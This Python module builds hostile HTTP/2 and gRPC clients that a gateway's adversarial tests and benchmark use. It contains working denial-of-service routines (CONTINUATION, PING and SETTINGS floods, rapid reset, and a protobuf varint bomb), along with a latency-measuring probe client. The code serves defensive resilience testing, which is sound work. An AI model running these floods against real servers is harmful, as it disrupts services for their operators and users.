"""Hostile HTTP/2 and gRPC clients for the h2 door's adversarial tests and benchmark.

`RawH2` writes whatever frames it is given (nothing is checked, which is the point) and
reads the gateway's frames back; the `*_attack` coroutines are the attacks the door must
survive, each bounded in time; `Probe` is a well-behaved tritonclient gRPC client in its own
process that records the latency of every call while an attack runs. `FakeTransport` collects what a
peer writes, for the tests that need no socket.
"""

from __future__ import annotations

import asyncio
import contextlib
import multiprocessing
import socket
import struct
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import Any

import hpack
import numpy as np
import tritonclient.grpc as grpcclient
from tritonclient.grpc import service_pb2

from adapters.gateway.h2wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    frame,
)

SERVICE = "/inference.GRPCInferenceService/"
Frame = tuple[int, int, int, bytes]  # type, flags, stream id, payload


def message(payload: bytes) -> bytes:
    """One uncompressed gRPC length-prefixed message."""
    return b"\x00" + len(payload).to_bytes(4, "big") + payload


def infer_request(model: str = "double_fp32") -> bytes:
    """A serialized ModelInferRequest for a demo model's 1x4 input."""
    req = service_pb2.ModelInferRequest(model_name=model)
    i = req.inputs.add()
    i.name, i.datatype = "INPUT0", "FP32"
    i.shape.extend([1, 4])
    req.raw_input_contents.append(np.arange(4, dtype=np.float32).tobytes())
    return bytes(req.SerializeToString())


def settings(**values: int) -> bytes:
    """A SETTINGS payload from ids (`s1=...`, `s4=...`) to values."""
    return b"".join(struct.pack(">HL", int(k[1:]), v) for k, v in values.items())


@dataclass
class Reply:
    status: int | None = None  # grpc-status, once trailers came
    message: str = ""
    data: bytes = b""
    reset: int | None = None  # RST_STREAM code


@dataclass
class RawH2:
    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter
    enc: hpack.Encoder = field(default_factory=hpack.Encoder)
    dec: hpack.Decoder = field(default_factory=hpack.Decoder)
    server_settings: dict[int, int] = field(default_factory=dict)
    replies: dict[int, Reply] = field(default_factory=dict)
    goaway: tuple[int, bytes] | None = None  # (error code, debug data)
    closed: bool = False
    ack_settings: bool = True  # False: never interrupt a header block with a SETTINGS ACK

    @classmethod
    async def connect(cls, url: str, first_settings: bytes = b"", rcvbuf: int = 0) -> RawH2:
        """Connect and send the preface; `rcvbuf`: a small socket buffer (a slow reader)."""
        host, _, port = url.rpartition(":")
        if rcvbuf:
            sock = socket.socket()
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
            sock.setblocking(False)
            await asyncio.get_running_loop().sock_connect(sock, (host, int(port)))
            r, w = await asyncio.open_connection(sock=sock, limit=rcvbuf)
        else:
            r, w = await asyncio.open_connection(host, int(port), limit=1 << 24)
        c = cls(r, w)
        w.write(PREFACE + frame(SETTINGS, 0, 0, first_settings))
        return c

    def headers(
        self, sid: int, method: str, end: bool = False, extra: tuple[Any, ...] = ()
    ) -> bytes:
        block = self.enc.encode(
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", SERVICE + method),
                (":authority", "gateway"),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
                *extra,
            ]
        )
        return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), sid, block)

    def send(self, *frames: bytes) -> None:
        if not self.closed:
            self.writer.write(b"".join(frames))

    async def flush(self) -> None:
        with contextlib.suppress(ConnectionError):
            await self.writer.drain()

    async def read_frame(self) -> Frame | None:
        try:
            head = await self.reader.readexactly(9)
            n = int.from_bytes(head[:3], "big")
            payload = await self.reader.readexactly(n)
        except (asyncio.IncompleteReadError, ConnectionError):
            self.closed = True
            return None
        f = (head[3], head[4], int.from_bytes(head[5:9], "big") & 0x7FFFFFFF, payload)
        self._note(f)
        return f

    def _note(self, f: Frame) -> None:
        ftype, flags, sid, payload = f
        if ftype == SETTINGS and not flags & 1:
            for i in range(0, len(payload), 6):
                k, v = struct.unpack_from(">HL", payload, i)
                self.server_settings[k] = v
            if self.ack_settings:
                self.send(frame(SETTINGS, 1, 0))
        elif ftype == GOAWAY:
            self.goaway = (struct.unpack_from(">L", payload, 4)[0], payload[8:])
        elif ftype == HEADERS:
            r = self.replies.setdefault(sid, Reply())
            for k, v in self.dec.decode(payload, raw=True):
                if k == b"grpc-status":
                    r.status = int(v)
                elif k == b"grpc-message":
                    r.message = v.decode("latin-1")
        elif ftype == DATA:
            self.replies.setdefault(sid, Reply()).data += payload
        elif ftype == RST_STREAM:
            self.replies.setdefault(sid, Reply()).reset = struct.unpack(">L", payload)[0]

    async def until(self, done: Callable[[], bool], timeout: float = 5.0) -> bool:
        """Read frames until `done()` or the connection closes; False on timeout or close."""
        deadline = time.monotonic() + timeout
        while not done():
            left = deadline - time.monotonic()
            if left <= 0 or self.closed:
                return False
            try:
                if await asyncio.wait_for(self.read_frame(), left) is None:
                    return done()
            except TimeoutError:
                return False
        return True

    async def wait_goaway(self, timeout: float = 5.0) -> int | None:
        """The GOAWAY error code the gateway sent, reading until it closes (None: none)."""
        await self.until(lambda: self.closed, timeout)
        return None if self.goaway is None else self.goaway[0]

    async def call(self, sid: int, method: str, body: bytes, timeout: float = 5.0) -> Reply:
        self.send(self.headers(sid, method), frame(DATA, END_STREAM, sid, body))
        await self.flush()
        await self.until(
            lambda: (
                sid in self.replies
                and (self.replies[sid].status is not None or self.replies[sid].reset is not None)
            ),
            timeout,
        )
        return self.replies.get(sid, Reply())

    def close(self) -> None:
        self.closed = True
        self.writer.close()


class FakeTransport:
    """Collects what a peer writes (httpx MockTransport-style fake), for tests without sockets."""

    def __init__(self) -> None:
        self.out = bytearray()
        self.closed = False

    def write(self, data: bytes) -> None:
        self.out += data

    def close(self) -> None:
        self.closed = True

    abort = close

    def frames(self) -> list[tuple[int, int, int, bytes]]:
        got, pos, buf = [], 0, bytes(self.out)
        if buf.startswith(PREFACE):
            pos = len(PREFACE)
        while pos < len(buf):
            n = int.from_bytes(buf[pos : pos + 3], "big")
            ftype, flags = buf[pos + 3], buf[pos + 4]
            sid = int.from_bytes(buf[pos + 5 : pos + 9], "big")
            got.append((ftype, flags, sid, buf[pos + 9 : pos + 9 + n]))
            pos += 9 + n
        self.out.clear()
        return got


# --- attacks: each runs on one connection until the gateway closes it or `seconds` pass -------
async def continuation_flood(url: str, seconds: float, chunk: int = 16384) -> RawH2:
    c = await RawH2.connect(url)
    c.ack_settings = False
    c.send(frame(HEADERS, 0, 1, c.enc.encode([(":path", SERVICE + "ModelInfer")])))
    junk = frame(CONTINUATION, 0, 1, b"\x00" * chunk)
    return await _flood(c, junk, seconds)


async def ping_flood(url: str, seconds: float) -> RawH2:
    c = await RawH2.connect(url)
    return await _flood(c, frame(PING, 0, 0, b"12345678") * 64, seconds)


async def settings_flood(url: str, seconds: float) -> RawH2:
    c = await RawH2.connect(url)
    return await _flood(c, frame(SETTINGS, 0, 0, settings(s4=65535)) * 64, seconds)


async def rapid_reset(url: str, seconds: float) -> RawH2:
    c = await RawH2.connect(url)
    body = frame(DATA, END_STREAM, 0, message(infer_request()))
    sid = 1
    deadline = time.monotonic() + seconds
    while not c.closed and time.monotonic() < deadline and sid < 1 << 30:
        batch = []
        for _ in range(32):
            batch.append(c.headers(sid, "ModelInfer"))
            batch.append(body[:5] + sid.to_bytes(4, "big") + body[9:])
            batch.append(frame(RST_STREAM, 0, sid, struct.pack(">L", 8)))
            sid += 2
        c.send(*batch)
        await c.flush()
        await _read_some(c)
    return c


async def varint_bomb(url: str, seconds: float, size: int = 400_000) -> RawH2:
    """ModelInfer calls whose message is one key then `size` varint continuation bytes."""
    c = await RawH2.connect(url)
    body = message(b"\x0a" + b"\xff" * size)
    sid = 1
    deadline = time.monotonic() + seconds
    while not c.closed and time.monotonic() < deadline:
        c.send(c.headers(sid, "ModelInfer"))
        for off in range(0, len(body), 16384):
            last = off + 16384 >= len(body)
            c.send(frame(DATA, END_STREAM if last else 0, sid, body[off : off + 16384]))
        await c.flush()
        await c.until(_answered(c, sid), 2.0)
        sid += 2
    return c


def _answered(c: RawH2, sid: int) -> Callable[[], bool]:
    return lambda: sid in c.replies and c.replies[sid].status is not None


async def _flood(c: RawH2, chunk: bytes, seconds: float) -> RawH2:
    deadline = time.monotonic() + seconds
    while not c.closed and time.monotonic() < deadline:
        c.send(chunk)
        await c.flush()
        await _read_some(c)
    return c


async def _read_some(c: RawH2) -> None:
    """Read what has arrived, without waiting for more."""
    while not c.closed and c.reader._buffer:  # type: ignore[attr-defined]
        await c.read_frame()
    if c.reader.at_eof():
        c.closed = True
    await asyncio.sleep(0)


def _probe_loop(url: str, pause_s: float, stop: Any, ready: Any, out: Any) -> None:
    c = grpcclient.InferenceServerClient(url)
    x = np.array([[1.5, -2.0, 3.25, 0.0]], dtype=np.float32)
    i = grpcclient.InferInput("INPUT0", [1, 4], "FP32")
    i.set_data_from_numpy(x)
    latencies: list[float] = []
    errors: list[str] = []
    c.infer("double_fp32", [i], client_timeout=30)  # connected and warm: not measured
    ready.set()
    try:
        while not stop.is_set():
            t = time.perf_counter()
            try:
                got = c.infer("double_fp32", [i], client_timeout=5).as_numpy("OUTPUT0")
                latencies.append(time.perf_counter() - t)
                if got is None or got.tolist() != (x * 2).tolist():
                    errors.append(f"wrong answer {got!r}")
            except Exception as exc:  # recorded: callers assert there were none
                errors.append(repr(exc))
            stop.wait(pause_s)
    finally:
        c.close()
        out.put((latencies, errors))


class Probe:
    """A well-behaved gRPC client calling `double_fp32` every `pause_s`, in its own process
    (so an attack running here cannot slow it through the GIL); latency of every call."""

    def __init__(self, url: str, pause_s: float = 0.01) -> None:
        ctx = multiprocessing.get_context("spawn")
        self._stop, self._ready, self._out = ctx.Event(), ctx.Event(), ctx.Queue()
        self._proc = ctx.Process(
            target=_probe_loop,
            args=(url, pause_s, self._stop, self._ready, self._out),
            daemon=True,
        )
        self.latencies: list[float] = []
        self.errors: list[str] = []

    def __enter__(self) -> Probe:
        self._proc.start()
        if not self._ready.wait(60):
            self._proc.kill()
            raise RuntimeError("the probe client did not get a first answer within 60 s")
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self.latencies, self.errors = self._out.get(timeout=30)
        self._proc.join(10)

    @property
    def worst_s(self) -> float:
        return max(self.latencies, default=float("inf"))


async def run_attack(
    attack: Callable[[str, float], Awaitable[RawH2]], url: str, seconds: float
) -> list[RawH2]:
    """Run `attack` again and again (a new connection each time the gateway closes one)."""
    conns: list[RawH2] = []
    deadline = time.monotonic() + seconds
    while (left := deadline - time.monotonic()) > 0:
        c = await attack(url, left)
        conns.append(c)
        c.close()
    return conns
